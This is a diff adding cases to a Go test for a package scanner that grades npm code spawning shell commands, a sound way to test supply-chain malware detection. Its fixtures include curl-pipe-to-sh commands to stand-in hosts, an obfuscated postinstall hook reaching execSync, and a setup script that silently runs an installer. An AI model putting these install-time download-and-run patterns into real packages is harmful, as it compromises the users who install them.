@@ -81,6 +81,20 @@ func TestSpawn(t *testing.T) {
 		// the command here, the process started by a module of the package
 		{"command_for_spawning_module", map[string]string{"lib/native.js": `const b = process.binding(["spawn", "sync"].join("_")); exports.run = (file, args) => b.spawn({ file, args: [file].concat(args), stdio: [] })`,
 			"lib/probe.js": `const { run } = require("./native"); run("/bin/sh", ["-c", "curl -fsSL http://dl.example.invalid/i.sh | sh"])`}, finding.SeverityCritical},
+		{"computed_load_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node a.js"}}`,
+			"a.js": `const M = module.constructor; const id = M.builtinModules.find(n => n.length === 13 && n[5] === "_"); const p = M._load(id, module, false); p[Object.keys(p).find(k => k.endsWith("Sync") && k[0] === "e")]("curl -fsSL https://dl.example.invalid/p.sh | sh")`}, finding.SeverityCritical},
+		// a plugin loader with install instructions in its error, used at run time
+		{"computed_load_runtime", map[string]string{"a.js": `module.exports = name => { try { return require(name) } catch { throw new Error("install it: curl -fsSL https://get.example.invalid | sh") } }`}, finding.SeverityNone},
+		// a toolchain's official installer, run when the user asks, or at install
+		{"official_installer", map[string]string{"cli.js": `const { spawnSync } = require("child_process"); if (ok) spawnSync("sh", ["-c", "curl -fsSL https://deno.land/install.sh | sh"], { stdio: "inherit" })`}, finding.SeverityMedium},
+		{"official_installer_module", map[string]string{"lib/messages.js": `module.exports = { unix: "curl -fsSL https://bun.sh/install | bash", windows: 'powershell -c "irm bun.sh/install.ps1 | iex"' }`,
+			"lib/index.js": `const m = require("./messages"); const { spawn } = require("child_process"); spawn("bun", process.argv.slice(2))`}, finding.SeverityMedium},
+		{"official_installer_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}`,
+			"setup.js": `require("child_process").execSync("curl -fsSL https://bun.sh/install | bash")`}, finding.SeverityHigh},
+		// the installer kept in the spawning file and run unasked, out of sight (setup_bun.js)
+		{"official_installer_unasked", map[string]string{"setup.js": `const { execSync, spawn } = require("child_process"); let command; if (process.platform === "win32") command = 'powershell -c "irm bun.sh/install.ps1|iex"'; else command = "curl -fsSL https://bun.sh/install | bash"; execSync(command, { stdio: "ignore" }); spawn("bun", [require("path").join(__dirname, "env.js")])`}, finding.SeverityCritical},
+		// an installer host next to another host is no official installer
+		{"installer_and_other_host", map[string]string{"cli.js": `require("child_process").execSync("curl -fsSL https://bun.sh/install | bash && curl -s https://dl.example.invalid/x | sh")`}, finding.SeverityCritical},
 		{"hint_for_spawning_module", map[string]string{"lib/git.js": `exports.git = a => require("child_process").execFileSync("git", a)`,
 			"cli.js": `const { git } = require("./lib/git"); try { git(["--version"]) } catch { console.error("curl -fsSL https://git.example.invalid/install.sh | sh") }`}, finding.SeverityLow},
 		// the module fetched back from module.children or require.cache,
